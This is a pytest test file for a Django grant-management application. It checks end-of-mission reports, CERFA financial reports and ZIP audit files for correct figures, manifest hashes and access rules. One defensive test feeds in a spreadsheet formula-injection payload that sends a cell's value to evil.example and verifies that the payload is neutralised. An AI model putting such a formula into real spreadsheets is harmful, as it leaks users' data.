"""The end-of-mission report (bilan), the CERFA 15059 financial report and the audit file (dossier de
contrôle): built through the job outbox, kept as dated versions, their figures equal to the dashboard's."""

import csv
import datetime
import hashlib
import io
import subprocess
import zipfile
from decimal import Decimal

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accompagnements.models import CompteRendu, SupportTemoin
from accompagnements.services import seance_confirmer, seance_mark_held
from budget import services
from budget.audit import dossier_controle, manifeste_lignes
from budget.cerfa import Financement, cerfa_chiffres
from budget.dashboard import programme_context
from budget.models import Export
from comite.models import ReunionComite
from core.models import AccesDonnees, TacheDifferee
from core.money import format_euros
from core.uploads import check_upload
from evaluations.models import Evaluation, MesureIndicateur
from tests.factories import (
    AccompagnementFactory,
    IndicateurFactory,
    ProgrammeFactory,
    SeanceFactory,
    UserFactory,
    convention_signee,
    siege_comite,
)

from .conftest import seance_livree

FACTURE_PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
SUPPORT = b"Feuille d'emargement signee - seance du 3 mars\n" * 50


def _pdf_text(content: bytes) -> str:
    result = subprocess.run(["pdftotext", "-layout", "-", "-"], input=content, capture_output=True, check=True)  # noqa: S603, S607
    return result.stdout.decode()


def _flat(text: str) -> str:
    """Text as pdftotext gives it, whatever the kind of space (French number formatting uses narrow ones)."""
    return " ".join(text.replace("\u202f", " ").replace("\xa0", " ").split())


def _euros(montant: Decimal) -> str:
    return _flat(format_euros(montant))


def _download(client, export) -> bytes:
    response = client.get(reverse("budget:export_download", args=[export.pk]))
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def _dossier_demo(coordinateur):
    """An accompagnement as the demo has them: signed convention, sessions held (one through the service,
    with its history), reports, a supporting record, a payment, exit evaluations and objective scores."""
    programme = ProgrammeFactory()
    accompagnement = AccompagnementFactory(candidature__programme=programme, demi_journees_prevues=4)
    convention = convention_signee(accompagnement, coordinateur=coordinateur, le=timezone.now() - datetime.timedelta(days=40))
    premiere = seance_livree(accompagnement, 2, days_ago=20)
    premiere.compte_rendu.travaux = "Plan de mécénat rédigé ensemble"
    premiere.compte_rendu.save()
    SupportTemoin.objects.create(
        seance=premiere,
        type_support="fichier",
        titre="Feuille d’émargement",
        fichier=ContentFile(SUPPORT, name="emargement.txt"),
        nom_original="émargement 3 mars.txt",
        taille=len(SUPPORT),
        sha256=hashlib.sha256(SUPPORT).hexdigest(),
    )
    SupportTemoin.objects.create(seance=premiere, type_support="lien", titre="Enregistrement", url="https://exemple.test/rec")
    seconde = SeanceFactory(accompagnement=accompagnement, debut=timezone.now() - datetime.timedelta(days=5))
    mentor = accompagnement.mentors.select_related("user", "structure").get()
    seance_mark_held(seance=seconde, by=mentor.user)
    CompteRendu.objects.create(seance=seconde, travaux="Suivi des dossiers", soumis_le=timezone.now(), redige_par=mentor.user)
    # Service fait: held by the mentor, confirmed by the beneficiary; then invoiced by the mentor's structure.
    seance_confirmer(seance=seconde, tenue=True, commentaire="Très utile", by=accompagnement.beneficiaire)
    services.facture_deposer(
        structure=mentor.structure,
        seances=[seconde],
        numero="FAC-2026-015",
        montant=programme.montant_pour(seconde.demi_journees),
        checked=check_upload(SimpleUploadedFile("facture.pdf", FACTURE_PDF)),
        by=mentor.user,
    )
    services.paiement_create(
        accompagnement=accompagnement,
        structure=mentor.structure,
        date_paiement=timezone.localdate(),
        montant=Decimal("750.00"),
        reference_facture="FAC-2026-014",
        by=coordinateur,
    )
    evaluation = Evaluation.objects.create(
        accompagnement=accompagnement,
        moment="sortie",
        repondant="beneficiaire",
        personne=accompagnement.beneficiaire,
        etat="repondue",
        repondue_le=timezone.now(),
        satisfaction_format=5,
    )
    indicateur = IndicateurFactory(objectif__accompagnement=accompagnement)
    MesureIndicateur.objects.create(indicateur=indicateur, moment="sortie", valeur=3, atteinte="atteint", evaluation=evaluation)
    return programme, accompagnement, convention


@pytest.mark.django_db(transaction=True)
def test_audit_file_holds_every_document_and_its_manifest_hashes_match(client, coordinateur):
    programme, accompagnement, convention = _dossier_demo(coordinateur)
    client.force_login(coordinateur)
    page = client.get(reverse("accompagnements:detail", args=[accompagnement.pk])).content.decode()
    assert "Préparer le dossier de contrôle (ZIP)" in page

    response = client.post(reverse("budget:dossier_controle_request", args=[programme.pk]), {"accompagnement": accompagnement.pk})
    export = Export.objects.get()
    assert response.url == reverse("budget:export_detail", args=[export.pk])
    assert (export.etat, export.progression, export.accompagnement) == ("pret", 100, accompagnement)
    # Built by the job outbox, not in the request.
    assert TacheDifferee.objects.get(tache="budget_export", arguments={"export_id": export.pk}).etat == "faite"

    archive = zipfile.ZipFile(io.BytesIO(_download(client, export)))
    names = set(archive.namelist())
    ref = accompagnement.reference
    expected = {
        f"{ref}/convention/{convention.reference}-v1-signee.pdf",
        f"{ref}/convention/{convention.reference}-v1-certificat-de-signature.pdf",
        f"{ref}/engagements.csv",
        f"{ref}/paiements.csv",
        f"{ref}/evaluations.csv",
        f"{ref}/objectifs-et-mesures.csv",
        "manifeste.csv",
        "SHA256SUMS",
    }
    assert expected <= names
    seances = sorted(n for n in names if n.endswith("seance-et-compte-rendu.pdf"))
    assert len(seances) == 2
    supports = [n for n in names if "/supports/" in n]
    assert len(supports) == 1 and archive.read(supports[0]) == SUPPORT

    # The signed convention is the stored file, byte for byte.
    assert hashlib.sha256(archive.read(f"{ref}/convention/{convention.reference}-v1-signee.pdf")).hexdigest() == (
        convention.pdf_final_sha256
    )
    certificat = _pdf_text(archive.read(f"{ref}/convention/{convention.reference}-v1-certificat-de-signature.pdf"))
    assert convention.pdf_sha256 in certificat.replace("\n", "").replace(" ", "")
    premiere = _pdf_text(archive.read(seances[0]))
    assert "Plan de mécénat rédigé ensemble" in premiere and "Feuille d’émargement" in premiere
    assert "https://exemple.test/rec" in premiere
    seconde = _pdf_text(archive.read(seances[1]))
    assert "seance_realiser" in seconde and "Suivi des dossiers" in seconde  # who marked it held, and when
    assert "Confirmée par les deux" in seconde and "Très utile" in seconde  # the service fait, each party's answer
    paiements = list(csv.reader(io.StringIO(archive.read(f"{ref}/paiements.csv").decode("utf-8-sig")), delimiter=";"))
    assert paiements[1][3] == "FAC-2026-014" and paiements[1][6] == "750.00"
    assert archive.read(f"{ref}/factures/FAC-2026-015.pdf") == FACTURE_PDF
    historique = archive.read(f"{ref}/factures/historique.csv").decode("utf-8-sig")
    assert "FAC-2026-015" in historique

    # The manifest lists every other file; a test recomputes each fingerprint and size.
    manifest = list(csv.reader(io.StringIO(archive.read("manifeste.csv").decode("utf-8-sig")), delimiter=";"))
    assert manifest[0] == ["chemin", "description", "taille (octets)", "SHA-256"]
    rows = {row[0]: row for row in manifest[1:]}
    assert set(rows) == names - {"manifeste.csv", "SHA256SUMS"}
    for path, (_path, description, size, digest) in rows.items():
        content = archive.read(path)
        assert description
        assert int(size) == len(content)
        assert hashlib.sha256(content).hexdigest() == digest
    sums = dict(reversed(line.split("  ", 1)) for line in archive.read("SHA256SUMS").decode().splitlines())
    assert sums == {path: row[3] for path, row in rows.items()}

    # The download is in the personal-data access log, as every personal file.
    log = AccesDonnees.objects.get()
    assert (log.user, log.objet_type, log.objet_id) == (coordinateur, "accompagnements.Accompagnement", str(accompagnement.pk))
    assert log.libelle.startswith(f"dossier-controle-{ref}-") and log.libelle.endswith(".zip")
    # A dated version, listed with the programme's documents.
    documents = client.get(reverse("budget:documents", args=[programme.pk])).content.decode()
    assert "Dossier de contrôle (ZIP)" in documents and ref in documents and "télécharger" in documents


@pytest.mark.django_db(transaction=True)
def test_programme_audit_file_covers_each_accompagnement_and_other_costs(client, coordinateur):
    programme, accompagnement, _convention = _dossier_demo(coordinateur)
    autre = AccompagnementFactory(candidature__programme=programme)
    seance_livree(autre)
    services.autre_depense_create(
        programme=programme,
        categorie="essaimage",
        libelle="Rencontre régionale",
        date_depense=timezone.localdate(),
        montant=Decimal("300.00"),
        by=coordinateur,
        justificatif=ContentFile(b"%PDF-1.4 facture", name="facture.pdf"),
    )
    client.force_login(coordinateur)
    client.post(reverse("budget:dossier_controle_request", args=[programme.pk]))
    export = Export.objects.get()
    assert export.etat == "pret", export.erreur
    names = zipfile.ZipFile(io.BytesIO(_download(client, export))).namelist()
    assert any(n.startswith(f"{accompagnement.reference}/seances/") for n in names)
    assert any(n.startswith(f"{autre.reference}/seances/") for n in names)
    assert "programme/autres-depenses.csv" in names
    assert any(n.startswith("programme/depenses/justificatif-") for n in names)
    assert AccesDonnees.objects.get().objet_type == "programmes.Programme"


@pytest.mark.django_db
def test_only_the_coordination_prepares_or_downloads_an_audit_file(client, coordinateur, membre_comite):
    programme = ProgrammeFactory()
    siege_comite(membre_comite, programme)
    accompagnement = AccompagnementFactory(candidature__programme=programme)
    url = reverse("budget:dossier_controle_request", args=[programme.pk])
    for user in (membre_comite, accompagnement.beneficiaire, accompagnement.mentors.get().user):
        client.force_login(user)
        assert client.post(url, {"accompagnement": accompagnement.pk}).status_code == 403
        page = client.get(reverse("accompagnements:detail", args=[accompagnement.pk]))
        assert "dossier de contrôle" not in page.content.decode()
    assert not Export.objects.exists()
    # Even one the committee member asked for in another way, or the coordination's, stays out of reach.
    for demande_par in (membre_comite, coordinateur):
        export = Export.objects.create(
            programme=programme, type_export="dossier_controle", demande_par=demande_par, etat="pret", progression=100
        )
        client.force_login(membre_comite)
        assert client.get(reverse("budget:export_detail", args=[export.pk])).status_code == 404
        assert client.get(reverse("budget:export_download", args=[export.pk])).status_code == 404
    client.force_login(membre_comite)
    documents = client.get(reverse("budget:documents", args=[programme.pk])).content.decode()
    assert "Bilan de fin de mission (PDF)" in documents and "Dossier de contrôle du programme" not in documents
    # Through the generic request too: refused with a reason, nothing queued.
    response = client.post(
        reverse("budget:export_request", args=[programme.pk]), {"type_export": "dossier_controle"}, follow=True
    )
    assert "Seule la coordination prépare et télécharge le dossier de contrôle." in response.content.decode()
    assert Export.objects.count() == 2
    client.force_login(accompagnement.beneficiaire)
    assert client.get(reverse("budget:documents", args=[programme.pk])).status_code == 403


@pytest.mark.django_db
def test_a_report_is_not_asked_for_one_accompagnement(coordinateur):
    programme = ProgrammeFactory()
    accompagnement = AccompagnementFactory(candidature__programme=programme)
    with pytest.raises(services.RuleViolation):
        services.export_request(programme=programme, type_export="bilan_pdf", by=coordinateur, accompagnement=accompagnement)
    with pytest.raises(services.RuleViolation):
        services.export_request(
            programme=ProgrammeFactory(), type_export="dossier_controle", by=coordinateur, accompagnement=accompagnement
        )


def _programme_chiffre(coordinateur):
    programme, accompagnement, _convention = _dossier_demo(coordinateur)
    services.autre_depense_create(
        programme=programme,
        categorie="essaimage",
        libelle="Rencontre régionale d’essaimage",
        date_depense=timezone.localdate(),
        montant=Decimal("321.45"),
        by=coordinateur,
    )
    services.autre_depense_create(
        programme=programme,
        categorie="communication",
        libelle="Plaquette",
        date_depense=timezone.localdate(),
        montant=Decimal("100.00"),
        by=coordinateur,
    )
    ReunionComite.objects.create(programme=programme, date=timezone.now() - datetime.timedelta(days=30), lieu="Toulouse")
    return programme


@pytest.mark.django_db(transaction=True)
def test_bilan_pdf_and_xlsx_carry_the_dashboards_figures(client, coordinateur, membre_comite):
    programme = _programme_chiffre(coordinateur)
    siege_comite(membre_comite, programme)
    chiffres = programme_context(programme)["chiffres"]
    assert chiffres.jours_livres == Decimal("1.5") and chiffres.autres == Decimal("421.45")
    client.force_login(membre_comite)  # the committee reads the figures: it may ask for the reports
    for type_export in ("bilan_pdf", "bilan_xlsx"):
        client.post(reverse("budget:export_request", args=[programme.pk]), {"type_export": type_export})
    pdf_export, xlsx_export = Export.objects.order_by("pk")
    assert (pdf_export.etat, pdf_export.progression) == ("pret", 100)
    assert xlsx_export.etat == "pret", xlsx_export.erreur

    text = _flat(_pdf_text(_download(client, pdf_export)))
    assert "Bilan de fin de mission" in text
    assert "Minimum non atteint : 1,5 jours réalisés pour un minimum de 30 jours (il manque 28,5 jours)." in text
    for label, montant in (
        ("Enveloppe", chiffres.enveloppe),
        ("Engagé", chiffres.engage),
        ("Réalisé", chiffres.livre),
        ("Payé", chiffres.paye),
        ("Autres dépenses", chiffres.autres),
        ("Reste disponible (enveloppe − engagé − autres dépenses)", chiffres.reste),
    ):
        assert f"{label} {_euros(montant)}" in text
    assert f"Rencontre régionale d’essaimage {_euros(Decimal('321.45'))}" in text
    assert "Toulouse" in text  # the comité's meeting
    assert "À la sortie 1 1 0 0 100 %" in text  # objectives: one scored at exit, reached
    assert "Haute-Garonne" in text or "31" in text  # beneficiaries by département

    workbook = load_workbook(io.BytesIO(_download(client, xlsx_export)))
    bilan = {row[0].value: row[1].value for row in workbook["Bilan"].iter_rows()}
    assert bilan["Minimum de jours à réaliser"] == programme.jours_minimum == 30
    assert bilan["Jours réalisés"] == chiffres.jours_livres
    assert Decimal(str(bilan["Enveloppe"])) == chiffres.enveloppe
    assert Decimal(str(bilan["Engagé"])) == chiffres.engage
    assert Decimal(str(bilan["Réalisé"])) == chiffres.livre
    assert Decimal(str(bilan["Payé"])) == chiffres.paye
    assert Decimal(str(bilan["Autres dépenses"])) == chiffres.autres
    assert Decimal(str(bilan["dont essaimage"])) == Decimal("321.45")
    objectifs = list(workbook["Objectifs"].iter_rows(min_row=2, values_only=True))
    assert objectifs[0][:3] == ("À la sortie", 1, 1) and objectifs[1][0] == "À 6 mois"
    assert [row[1] for row in workbook["Comité"].iter_rows(min_row=2, values_only=True)] == ["Toulouse"]
    formats = [row for row in workbook["Bénéficiaires"].iter_rows(min_row=2, values_only=True) if row[0] == "Par format"]
    assert formats == [("Par format", "Transfert de savoir-faire", 1, 2, 1.5)]
    # Dated versions: both listed, with their dates.
    documents = client.get(reverse("budget:documents", args=[programme.pk])).content.decode()
    assert documents.count("Bilan de fin de mission") >= 2


@pytest.mark.django_db(transaction=True)
def test_cerfa_financial_report_totals_equal_the_dashboard(client, coordinateur):
    programme = _programme_chiffre(coordinateur)
    chiffres = programme_context(programme)["chiffres"]
    client.force_login(coordinateur)
    for type_export in ("cerfa_pdf", "cerfa_xlsx"):
        client.post(reverse("budget:export_request", args=[programme.pk]), {"type_export": type_export})
    pdf_export, xlsx_export = Export.objects.order_by("pk")
    assert pdf_export.etat == xlsx_export.etat == "pret"

    charges_realisees = chiffres.livre + chiffres.autres
    text = _flat(_pdf_text(_download(client, pdf_export)))
    assert "Compte rendu financier de subvention" in text and "Cerfa n° 15059" in text
    assert f"Total des charges {_euros(chiffres.enveloppe)} {_euros(charges_realisees)}" in text
    assert f"Total des produits {_euros(chiffres.enveloppe)} {_euros(charges_realisees)}" in text
    assert f"dont payés {_euros(chiffres.paye)}" in text
    assert f"Engagé (conventions signées) {_euros(chiffres.engage)}" in text

    sheet = load_workbook(io.BytesIO(_download(client, xlsx_export))).active
    rows = {row[0]: row[1:] for row in sheet.iter_rows(values_only=True) if row and row[0]}
    assert rows["Subvention"][0] == chiffres.enveloppe
    prevision, realisation, _taux = rows["Total des charges"]
    assert Decimal(str(prevision)) == chiffres.enveloppe
    assert Decimal(str(realisation)) == charges_realisees
    assert Decimal(str(rows["Total des produits"][1])) == charges_realisees
    honoraires = next(v for k, v in rows.items() if k.startswith("62 – Autres services extérieurs : rémunérations"))
    assert Decimal(str(honoraires[1])) == chiffres.livre
    assert Decimal(str(rows["dont payés"][0])) == chiffres.paye
    assert Decimal(str(rows["Reste à payer"][0])) == chiffres.livre - chiffres.paye


@pytest.mark.django_db
def test_cerfa_for_one_funders_part_adds_up_to_its_contribution(programme):
    part = Financement(
        financeur="CNM",
        montant=Decimal("10000.00"),
        engage=Decimal("4000.00"),
        realise=Decimal("2500.00"),
        paye=Decimal("2000.00"),
        autres={"essaimage": Decimal("150.50")},
        reference="CNM-2026-07",
    )
    rapport = cerfa_chiffres(programme=programme, financement=part)
    assert rapport.total_charges.prevision == Decimal("10000.00")
    assert rapport.total_charges.realisation == Decimal("2650.50")
    assert rapport.produits[0].compte == "74 – Subventions d’exploitation : CNM"
    assert rapport.total_produits.realisation == rapport.total_charges.realisation
    assert (rapport.reste_a_payer, rapport.engage_non_realise, rapport.ecart) == (
        Decimal("500.00"),
        Decimal("1500.00"),
        Decimal("7349.50"),
    )


@pytest.mark.django_db
def test_reports_are_refused_to_people_outside_the_budget(client, programme):
    client.force_login(UserFactory(roles=["candidat"]))
    assert client.post(reverse("budget:export_request", args=[programme.pk]), {"type_export": "bilan_pdf"}).status_code == 403
    assert not Export.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_typed_text_never_runs_as_a_formula_in_the_reports(client, coordinateur):
    programme = ProgrammeFactory()
    services.autre_depense_create(
        programme=programme,
        categorie="essaimage",
        libelle='=HYPERLINK("https://evil.example/?"&A1,"clic")',
        date_depense=timezone.localdate(),
        montant=Decimal("10.00"),
        by=coordinateur,
    )
    client.force_login(coordinateur)
    client.post(reverse("budget:export_request", args=[programme.pk]), {"type_export": "bilan_xlsx"})
    client.post(reverse("budget:dossier_controle_request", args=[programme.pk]))
    bilan, dossier = Export.objects.order_by("pk")
    sheet = load_workbook(io.BytesIO(_download(client, bilan)))["Essaimage"]
    assert sheet["B2"].value.startswith("'=HYPERLINK") and sheet["B2"].data_type == "s"
    archive = zipfile.ZipFile(io.BytesIO(_download(client, dossier)))
    assert "'=HYPERLINK" in archive.read("programme/autres-depenses.csv").decode("utf-8-sig")


@pytest.mark.django_db
def test_documents_page_reads_a_constant_number_of_queries(client, coordinateur, django_assert_max_num_queries):
    programme = ProgrammeFactory()
    accompagnements = [AccompagnementFactory(candidature__programme=programme) for _ in range(3)]
    for index in range(12):
        Export.objects.create(
            programme=programme,
            type_export=["bilan_pdf", "cerfa_xlsx", "dossier_controle"][index % 3],
            accompagnement=accompagnements[index % 3] if index % 3 == 2 else None,
            demande_par=coordinateur,
            etat="pret",
            progression=100,
            termine_le=timezone.now(),
        )
    client.force_login(coordinateur)
    with django_assert_max_num_queries(8):
        response = client.get(reverse("budget:documents", args=[programme.pk]))
    assert response.status_code == 200
    page = response.content.decode()
    assert page.count("télécharger") == 12 and accompagnements[2].reference in page


@pytest.mark.django_db(transaction=True)
def test_the_audit_file_reports_its_progress_as_it_goes(coordinateur):
    programme, _accompagnement, _convention = _dossier_demo(coordinateur)
    autre = AccompagnementFactory(candidature__programme=programme)
    seance_livree(autre)
    steps = []
    with dossier_controle(programme=programme, progress=steps.append) as archive:
        assert zipfile.ZipFile(archive).testzip() is None
    assert steps == sorted(steps) and len(steps) == 3 and steps[0] < 90 and steps[-1] == 95


@pytest.mark.django_db(transaction=True)
def test_a_file_missing_from_the_storage_is_named_in_the_manifest_not_fatal(coordinateur):
    programme, accompagnement, _convention = _dossier_demo(coordinateur)
    support = SupportTemoin.objects.get(type_support="fichier")
    support.fichier.storage.delete(support.fichier.name)
    with dossier_controle(programme=programme, accompagnement=accompagnement) as handle:
        archive = zipfile.ZipFile(handle)
        rows = manifeste_lignes(archive.read("manifeste.csv"))
    missing = [row for row in rows if row[1].startswith("MANQUANT")]
    assert len(missing) == 1 and "/supports/" in missing[0][0] and missing[0][0] not in archive.namelist()
    assert "Feuille d’émargement" in missing[0][1]
